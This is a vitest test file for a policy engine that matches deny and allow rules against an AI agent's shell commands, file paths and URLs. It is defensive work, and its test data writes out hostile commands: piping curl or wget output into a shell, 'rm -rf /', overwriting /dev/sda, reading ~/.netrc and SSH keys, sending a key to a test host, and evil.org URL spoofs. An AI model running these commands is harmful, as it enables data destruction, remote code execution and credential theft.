import { describe, expect, it } from 'vitest';
import type { UnknownReason } from '../../src/core/scan.ts';
import { word } from '../../src/core/word.ts';
import { decide } from '../../src/policy/decide.ts';
import type { Judged } from '../../src/policy/judged.ts';
import type { Conditions } from '../../src/policy/rule.ts';
import { effectOf, invocationOf, judgedOf, type Made, ruleOf, setOf, toolCall } from './build.ts';

/** What a restricting rule with this `when` makes of a call: fires surely, perhaps, or not. */
function denies(when: Conditions, judged: Judged): 'must' | 'may' | 'no' {
  return decide(setOf('allow', ruleOf('deny', when)), judged).matched[0]?.match ?? 'no';
}

/** Whether an allow rule with this `when` covers a call. */
function grants(when: Conditions, judged: Judged): boolean {
  return decide(setOf('deny', ruleOf('allow', when)), judged).verdict === 'allow';
}

type Row = [when: Conditions, command: string, denied: string, granted: boolean, made?: Made];

function check(rows: Row[]): void {
  it.each(rows)('%j on %j: denies %s, grants %s', (when, command, denied, granted, made) => {
    const judged = judgedOf(command, made);
    expect({ denied: denies(when, judged), granted: grants(when, judged) }).toEqual({ denied, granted });
  });
}

describe('command_matches', () => {
  check([
    [{ command_matches: ['git push *'] }, 'git push origin', 'must', true],
    [{ command_matches: ['git push *'] }, 'git pull', 'no', false],
    [{ command_matches: ['git pull', 'git push *'] }, 'git push origin', 'must', true],
    [{ command_matches: ['rm *'] }, '/bin/rm x', 'must', true],
    [{ command_matches: ['/bin/rm *'] }, '/bin/rm x', 'must', true],
    [{ command_matches: ['rm *'] }, './rm x', 'no', false],
    [{ command_matches: ['rm -rf /'] }, 'rm -rf $X/', 'may', false],
    [{ command_matches: ['rm *'] }, 'rm $X', 'must', true],
    [{ command_matches: ['rm -rf *'] }, 'rm $X', 'no', false],
    [{ command_matches: ['rm -rf /'] }, '$SUDO rm -rf /', 'may', false],
    [{ command_matches: ['rm -rf /'] }, '/bin/rm -rf $X /', 'may', false],
    [{ command_matches: ['rm -rf /'] }, 'rm -rf $X={/,/tmp}', 'may', false],
    [{ command_matches: ['rm -rf /*'] }, 'rm -rf $X={/,/tmp}', 'must', true],
    [{ command_matches: ['rm -rf /'] }, 'rm -rf $X={a,b}', 'no', false],
  ]);

  it('reads the source of the invocation too, where it is written otherwise than its words', () => {
    const judged = judgedOf('', {
      scan: {
        sources: [{ kind: 'input', text: 'cd x; cat "$HOME/.netrc" # no' }],
        invocations: [invocationOf('cat /home/user/.netrc', { span: { source: 0, start: 6, end: 24 } })],
      },
    });
    expect(denies({ command_matches: ['cat "$HOME/*'] }, judged)).toBe('must');
    expect(grants({ command_matches: ['cat "$HOME/*'] }, judged)).toBe(false);
    expect(denies({ command_matches: ['cat * # no'] }, judged)).toBe('no');
  });

  it('does not take a program whose name holds a space for a program and an argument', () => {
    const judged = judgedOf('', { scan: { invocations: [invocationOf('', { argv: [word('ls /tmp')] })] } });
    expect(grants({ command_matches: ['ls *'] }, judged)).toBe(false);
    expect(denies({ command_matches: ['ls *'] }, judged)).toBe('must');
  });

  it('holds of no other tool', () => {
    expect(denies({ command_matches: ['*'] }, toolCall({ tool: 'read', path: '/etc/passwd' }))).toBe('no');
    expect(denies({ command_not_matches: ['git *'] }, toolCall({ tool: 'read', path: '/x' }))).toBe('no');
    expect(denies({ program: ['*'] }, toolCall({ tool: 'read', path: '/x' }))).toBe('no');
  });
});

describe('whole texts', () => {
  const pushForce: Conditions = { command_matches: ['git push *-f*'] };
  check([
    [pushForce, 'git push origin main && tail -f log', 'no', false],
    [pushForce, 'git push -f', 'must', true],
    [{ command_matches: ['*push*-f*'] }, 'git push origin main && tail -f log', 'may', false],
    [{ command_matches: ['git push && *'] }, 'git push && tail -f log', 'may', false],
    [{ command_contains: ['PUSH ORIGIN MAIN && tail'] }, 'git push origin main && tail -f log', 'may', false],
    [{ command_matches: ['*push*-f*'], program: ['*'] }, 'git push origin main && tail -f log', 'no', false],
  ]);

  it('are all tried when invocations may be missing', () => {
    const made: Made = { scan: { invocations: [], coverage: 'opaque' } };
    expect(denies(pushForce, judgedOf('git push "-f', made))).toBe('may');
  });

  it('are cut at operators where they could not be parsed', () => {
    const text = "echo ok; rm -rf / 'oops";
    const unknown = [{ reason: 'parse' as const, span: { source: 0, start: 0, end: text.length } }];
    const judged = judgedOf(text, { scan: { invocations: [], coverage: 'opaque', unknown } });
    expect(denies({ command_matches: ['rm -rf / *'] }, judged)).toBe('may');
    expect(
      denies({ command_matches: ['rm -rf / *'] }, judgedOf(text, { scan: { coverage: 'opaque' } })),
    ).toBe('no');
  });

  it('include decoded text', () => {
    const judged = judgedOf('', {
      scan: { sources: [{ kind: 'decoded', text: 'cat x > /dev/sda', chain: ['base64'] }] },
    });
    expect(denies({ command_matches: ['*> /dev/sd*'] }, judged)).toBe('may');
  });
});

describe('pipelines', () => {
  const intoShell: Conditions = { command_matches: ['curl * | sh'] };
  check([
    [intoShell, 'curl -s x | sh', 'must', false],
    [intoShell, 'curl -s x | tee y', 'no', false],
    [{ command_matches: ['curl *|sh'] }, 'curl -s x | sh', 'must', false],
    [{ command_matches: ['curl *|*sh'] }, 'curl -s x | bash', 'must', false],
    [{ command_matches: ['{curl,wget} * | {sh,bash} *'] }, 'wget -O- x | bash', 'must', false],
    [intoShell, 'curl | sh', 'must', false],
    [intoShell, 'curl x | gunzip | sh', 'must', false],
    [intoShell, 'sh x | curl y', 'no', false],
    [{ command_matches: ['{curl * | sh,wget * | bash}'] }, 'wget x | bash', 'must', false],
    [{ command_matches: ['curl *[|]*sh'] }, 'curl x | sh', 'no', false],
    [{ command_matches: ['curl * || sh *'] }, 'curl x | sh', 'no', false],
    [{ command_matches: ['curl * |& sh'] }, 'curl x | sh', 'must', false],
    [{ command_matches: ['curl * | sh'], command_contains: ['evil'] }, 'curl x | sh', 'no', false],
    [{ command_matches: ['curl * | sh'], command_contains: ['evil'] }, 'curl EVIL | sh', 'must', false],
    [intoShell, 'true | curl x | sh', 'must', false],
    [intoShell, 'curl x | sh | tee log', 'must', false],
    [intoShell, 'echo a && true | /usr/bin/curl x | /bin/sh | tee log', 'must', false],
    [intoShell, 'curl $X | $SUDO sh', 'may', false],
    [intoShell, '$CURL x | sh', 'no', false],
    [intoShell, 'git log | grep sh', 'no', false],
    [{ command_matches: ['*curl*|*sh*'] }, 'grep curl.*|sh docs && ls', 'must', false],
    [{ command_matches: ['*curl*|*sh*'] }, 'curl x && ls | sh', 'no', false],
    [
      { command_matches: ['*curl*|*sh*'] },
      'curl x && ls | sh',
      'may',
      false,
      { scan: { coverage: 'opaque' } },
    ],
    [{ command_matches: ['git push *-f*'] }, 'git push x | tail -f', 'no', false],
  ]);

  it('see a stage with and without its wrapper', () => {
    const judged = judgedOf('', {
      scan: {
        sources: [{ kind: 'input', text: 'curl x|sudo -u root nice sh' }],
        invocations: [
          invocationOf('curl x'),
          invocationOf('sudo -u root nice sh'),
          invocationOf('nice sh', { parent: 1 }),
          invocationOf('sh', { parent: 2, via: ['sudo', 'nice'] }),
        ],
        pipelines: [[0, 1]],
      },
    });
    expect(denies(intoShell, judged)).toBe('must');
    expect(denies({ command_matches: ['curl * | sudo *'] }, judged)).toBe('must');
    const innermost = { ...judged, scan: { ...judged.scan, pipelines: [[0, 3]] } };
    expect(denies(intoShell, innermost)).toBe('must');
    expect(denies({ command_matches: ['curl * | sudo *'] }, innermost)).toBe('must');
  });

  it('do not take what wraps the whole pipeline for a stage', () => {
    const judged = judgedOf('', {
      scan: {
        invocations: [
          invocationOf('bash -c CODE'),
          invocationOf('curl x', { parent: 0 }),
          invocationOf('jq .', { parent: 0 }),
        ],
        pipelines: [[1, 2]],
      },
    });
    expect(denies({ command_matches: ['* | bash *'] }, judged)).toBe('no');
  });
});

describe('other keys about the command', () => {
  check([
    [{ command_not_matches: ['git *'] }, 'ls', 'must', true],
    [{ command_not_matches: ['git *'] }, 'git log', 'no', false],
    [{ command_not_matches: ['git clean *-n*'], program: ['git'] }, 'git clean -f', 'must', true],
    [{ command_not_matches: ['git clean *-n*'], program: ['git'] }, 'git clean $X', 'may', false],
    [{ command_not_matches: ['git clean *-n*'], program: ['ls'] }, 'ls $X', 'must', true],
    [{ command_contains: ['DROP table'] }, 'psql -c drop TABLE x', 'must', true],
    [{ command_contains: ['drop table'] }, 'psql -c dr$Xop table', 'may', false],
    [{ program: ['rm'] }, '/usr/bin/rm x', 'must', true],
    [{ program: ['python*'] }, 'python3.12 x', 'must', true],
    [{ program: ['rm'] }, 'r$Xm x', 'may', false],
    [{ program: ['rm'] }, '$X x', 'no', false],
    [{ program: ['rm'] }, '$X={rm,ls} x', 'may', false],
    [{ program: ['rm'], args: ['-rf *'] }, 'rm -rf x', 'must', true],
    [{ program: ['rm'], args: ['x'] }, 'rm -rf x', 'must', false],
    [{ program: ['rm'], args: ['x'] }, 'rm -rf $X', 'no', false],
    [{ program: ['npm'], args: ['run *'] }, 'npm run', 'must', true],
    [{ program: ['npm'], args: ['run *'] }, 'npm help run', 'no', false],
    [{ program: ['cat'], args: [''] }, 'cat', 'must', true],
    [{ program: ['rm'], args: ['-rf *'] }, 'rm x && ls -rf y', 'no', false],
    [{ command_matches: ['* x'], command_contains: ['rm'] }, 'rm y && ls x', 'may', false],
    [{ unknown: true }, 'rm $X', 'must', true],
    [{ unknown: true }, 'rm x', 'no', false],
    [{ unknown: ['limit', 'parse'] }, 'ls', 'must', true, unknownFor('limit')],
    [{ unknown: ['limit', 'parse'] }, 'ls', 'no', false, unknownFor('variable')],
    [{ unknown: ['limit'], command_contains: ['s x'] }, 'ls x', 'must', true, unknownFor('limit')],
    [{ unknown: ['limit'], command_contains: ['&& l'] }, 'ls && ls', 'may', false, unknownFor('limit')],
    [{ unknown: false }, 'rm x', 'must', true],
    [{ unknown: true }, 'rm $X={a,b}', 'no', false],
    [{ unknown: true }, '', 'must', false, { scan: { coverage: 'opaque' } }],
    [
      { env: ['LD_*'] },
      '',
      'must',
      true,
      { scan: { invocations: [invocationOf('ls', { env: ['LD_PRELOAD'] })] } },
    ],
    [
      { env: ['LD_*'] },
      '',
      'must',
      false,
      { scan: { invocations: [invocationOf('ls', { env: ['LD_X', 'A'] })] } },
    ],
    [{ env: ['*'] }, 'ls', 'no', false],
    [
      { cwd_matches: ['~/x/**'] },
      '',
      'must',
      true,
      { scan: { invocations: [invocationOf('ls', { cwd: word('/home/user/x') })] } },
    ],
    [{ cwd_matches: ['/workspace'] }, 'ls', 'must', true],
  ]);
});

describe('keys about the call', () => {
  check([
    [{ default: true }, 'ls', 'must', true],
    [{ default: true }, '', 'must', false],
    [{ tool: ['exec'] }, 'ls', 'must', true],
    [{ tool: ['read', 'write'] }, 'ls', 'no', false],
    [{ agent: ['claude*'] }, 'ls', 'must', true],
    [{ agent: ['codex'] }, 'ls', 'no', false],
    [{ agent: ['codex'] }, 'ls', 'no', false, { call: { agent: null } }],
    [{ session_matches: ['s?'] }, 'ls', 'must', true],
    [{ session_matches: ['t?'] }, 'ls', 'no', false],
    [{ coverage: ['full'] }, 'ls', 'must', true],
    [{ coverage: ['partial', 'opaque'] }, 'ls', 'no', false],
    [{ coverage: ['partial'] }, 'ls', 'must', true, { scan: { coverage: 'partial' } }],
    [{ coverage: ['opaque'] }, 'ls', 'must', false, { scan: { coverage: 'opaque' } }],
    [{ decoded: true }, 'ls', 'no', false],
    [{ decoded: false }, 'ls', 'must', true],
    [{ decoded: ['base64'] }, 'ls', 'must', true, decodedFrom('base64')],
    [{ decoded: true }, 'ls', 'must', true, decodedFrom('xxd')],
    [{ decoded: ['base64'] }, 'ls', 'no', false, decodedFrom('xxd')],
    [{ tool: ['exec'], program: ['rm'] }, 'ls', 'no', false],
  ]);
});

function unknownFor(reason: UnknownReason): Made {
  return { scan: { unknown: [{ reason, span: { source: 0, start: 0, end: 1 } }] } };
}

function decodedFrom(chain: string): Made {
  return {
    scan: {
      sources: [
        { kind: 'input', text: '' },
        { kind: 'decoded', text: 'ls', chain: [chain] },
      ],
    },
  };
}

describe('paths', () => {
  const secret: Conditions = { path_matches: ['~/.ssh/**', '**/*.pem'] };
  const reads = (...targets: string[]): Made => ({
    effects: targets.map(target => effectOf('read', target)),
  });
  check([
    [secret, 'cat x', 'must', true, reads('/home/user/.ssh/id_rsa')],
    [secret, 'cat x y', 'must', false, reads('/home/user/.ssh/id_rsa', '/workspace/y')],
    [secret, 'cat x', 'no', false, reads('/root/.ssh/id_rsa')],
    [{ path_matches: ['{/root,~}/x'] }, 'cat x', 'must', true, reads('/home/user/x')],
    [{ path_matches: ['{~/a,/b}/x'] }, 'cat x', 'must', true, reads('/home/user/a/x')],
    [{ path_matches: ['/{a,~}/x'] }, 'cat x', 'must', true, reads('/~/x')],
    [secret, 'cat x', 'no', false, reads('$F')],
    [secret, 'cat x', 'must', true, reads('$D/x.pem')],
    [{ path_matches: ['/etc/shadow'] }, 'cat x', 'may', false, reads('/etc/$Xshadow')],
    [{ path_matches: ['/etc'] }, 'rm x', 'may', false, reads('/etc/$X')],
    [{ path_matches: ['/'] }, 'rm x', 'may', false, reads('$X/')],
    [{ path_matches: ['/'] }, 'rm x', 'no', false, reads('$X')],
    [{ path_matches: ['/**'] }, 'true', 'no', false],
    [{ path_not_matches: ['/workspace/**'] }, 'cat x', 'must', true, reads('/etc/passwd')],
    [{ path_not_matches: ['/workspace/**'] }, 'cat x', 'no', false, reads('/workspace/x')],
    [{ path_not_matches: ['/workspace/**'] }, 'cat x', 'may', false, reads('$F')],
    [
      { ...secret, path_not_matches: ['**/*.pub'] },
      'cp',
      'no',
      false,
      reads('/home/user/.ssh/id.pub', '/tmp/x'),
    ],
    [{ ...secret, effect: ['write'] }, 'cat x', 'no', false, reads('/home/user/.ssh/id_rsa')],
    [{ ...secret, effect: ['read', 'write'] }, 'cat x', 'must', true, reads('/home/user/.ssh/id_rsa')],
    [{ effect: ['read'] }, 'cat x', 'must', true, reads('/x')],
    [{ effect: ['send'] }, 'cat x', 'no', false, reads('/x')],
    [
      { ...secret, effect: ['send'] },
      'curl -T x',
      'must',
      false,
      { effects: [effectOf('read', '/home/user/.ssh/id_rsa'), effectOf('send', 'https://x.test/')] },
    ],
    [
      { effect: ['send'] },
      'curl',
      'must',
      false,
      { effects: [effectOf('read', '/x'), effectOf('send', 'https://x.test/')] },
    ],
    [{ effect: ['read'] }, 'a && b', 'must', false, { effects: [effectOf('read', '/x', { invocation: 1 })] }],
    [
      { effect: ['delete'], recursive: true },
      'rm -r x',
      'must',
      true,
      { effects: [effectOf('delete', '/x', { recursive: true })] },
    ],
    [{ effect: ['delete'], recursive: true }, 'rm x', 'no', false, { effects: [effectOf('delete', '/x')] }],
    [
      { effect: ['delete'], path_matches: ['~/.ssh/id'] },
      'rm -r',
      'may',
      false,
      { effects: [effectOf('delete', '/home', { recursive: true })] },
    ],
    [
      { effect: ['delete'], path_matches: ['~/.ssh/id'] },
      'rm -r',
      'may',
      false,
      { effects: [effectOf('delete', '/', { recursive: true })] },
    ],
    [
      { effect: ['delete'], path_matches: ['~/.ssh/id'] },
      'rm -r',
      'no',
      false,
      { effects: [effectOf('delete', '/ho', { recursive: true })] },
    ],
    [
      { effect: ['delete'], path_matches: ['~/.ssh/id'] },
      'rmdir',
      'no',
      false,
      { effects: [effectOf('delete', '/home')] },
    ],
  ]);

  it('takes redirects for reads and writes, resolved against where they happen', () => {
    const judged = judgedOf('', {
      scan: {
        invocations: [invocationOf('echo x', { writes: [word('../etc//x')], cwd: word('/tmp') })],
      },
    });
    expect(denies({ path_matches: ['/etc/x'], effect: ['write'] }, judged)).toBe('must');
    expect(denies({ path_matches: ['/etc/x'], effect: ['read'] }, judged)).toBe('no');
  });

  it.each<[path: string, glob: string, denied: string]>([
    ['/home/user/.ssh/x', '~/.ssh/**', 'must'],
    ['~/.ssh/x', '~/.ssh/**', 'must'],
    ['~', '~', 'must'],
    ['../home/user/./.ssh//x', '~/.ssh/**', 'must'],
    ['.env', '/workspace/.env', 'must'],
    ['~root/.ssh/x', '~/.ssh/**', 'no'],
  ])('resolves the path %j of a file tool for %j: %s', (path, glob, denied) => {
    for (const tool of ['read', 'write', 'edit'] as const)
      expect(denies({ path_matches: [glob] }, toolCall({ tool, path }))).toBe(denied);
  });

  it('knows a reading tool from a writing one', () => {
    const when: Conditions = { path_matches: ['/x'], effect: ['write'] };
    expect(denies(when, toolCall({ tool: 'read', path: '/x' }))).toBe('no');
    expect(denies(when, toolCall({ tool: 'edit', path: '/x' }))).toBe('must');
    expect(grants({ path_matches: ['/x'], effect: ['read'] }, toolCall({ tool: 'read', path: '/x' }))).toBe(
      true,
    );
  });

  it('reads a home with special characters as the text it is', () => {
    const judged = { ...toolCall({ tool: 'read', path: '/home/{a,b}*/.ssh/x' }), home: '/home/{a,b}*' };
    expect(denies({ path_matches: ['~/.ssh/*'] }, judged)).toBe('must');
    expect(denies({ path_matches: ['~/.ssh/*'] }, { ...judged, home: '/home/[x]' })).toBe('no');
  });
});

describe('addresses', () => {
  it.each<[domain: string, url: string, denied: string]>([
    ['x.com', 'https://x.com/a', 'must'],
    ['x.com', 'https://user:pw@X.COM.:8443/a', 'must'],
    ['*.x.com', 'https://x.com', 'no'],
    ['*.x.com', 'https://a.b.x.com', 'must'],
    ['x.com', 'https://x.com.evil.org', 'no'],
    ['x.com', 'https://evil.org/x.com', 'no'],
    ['x.com', 'https://x.com@evil.org', 'no'],
    ['evil.org', 'https://x.com@evil.org', 'must'],
    ['evil.org', 'https://evil.org\\@x.com', 'may'],
    ['127.0.0.1', 'http://2130706433/', 'may'],
    ['evil.org', 'https://%65vil.org/', 'may'],
    ['::1', 'http://[::1]:80/', 'must'],
    ['x.com', 'user@x.com:/tmp', 'must'],
    ['x.com', 'x.com/path', 'must'],
  ])('domain %j of %j: %s', (domain, url, denied) => {
    expect(denies({ domain_matches: [domain] }, toolCall({ tool: 'fetch', url }))).toBe(denied);
  });

  it('grants only when every way of reading the host is covered', () => {
    const judged = toolCall({ tool: 'fetch', url: 'https://evil.org\\@x.com' });
    expect(grants({ domain_matches: ['x.com'] }, judged)).toBe(false);
    expect(grants({ domain_matches: ['evil.org'] }, judged)).toBe(false);
    expect(grants({ domain_matches: ['*'] }, judged)).toBe(true);
  });

  it('takes what a command sends to and downloads from', () => {
    const judged = judgedOf('curl x', {
      effects: [effectOf('download', 'https://$Hx.com/a'), effectOf('send', 'y.com')],
    });
    expect(denies({ domain_matches: ['x.com'] }, judged)).toBe('may');
    expect(denies({ domain_matches: ['y.com'] }, judged)).toBe('must');
    expect(grants({ domain_matches: ['y.com'] }, judged)).toBe(false);
    expect(denies({ url_matches: ['https://*/a'] }, judged)).toBe('must');
    expect(denies({ url_matches: ['http://*'] }, judged)).toBe('no');
  });
});
